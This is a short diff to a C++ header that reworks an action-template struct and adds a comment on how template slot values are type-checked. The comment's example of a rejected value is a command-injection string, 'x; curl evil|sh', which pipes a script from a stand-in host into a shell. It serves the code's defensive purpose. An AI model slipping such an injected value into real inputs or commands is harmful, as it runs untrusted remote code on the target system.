@@ -60,8 +60,12 @@ struct MatchRule {
   int criteria() const;
 };
 
+// An action with template slots. Rendered values are typed by action::Build: a slot whose value
+// does not parse as its parameter's type (an alert label such as "x; curl evil|sh" for a
+// certificate name) turns the action into `investigate`, with the reason in the proposal.
 struct ActionTemplate {
-  ActionType type = ActionType::kInvestigate;
+  action::Kind kind = action::Kind::kInvestigate;
+  std::string target_kind;  // "" = the kind's default
   Template target;
   std::map<std::string, Template> parameters;
   Template expected_effect;
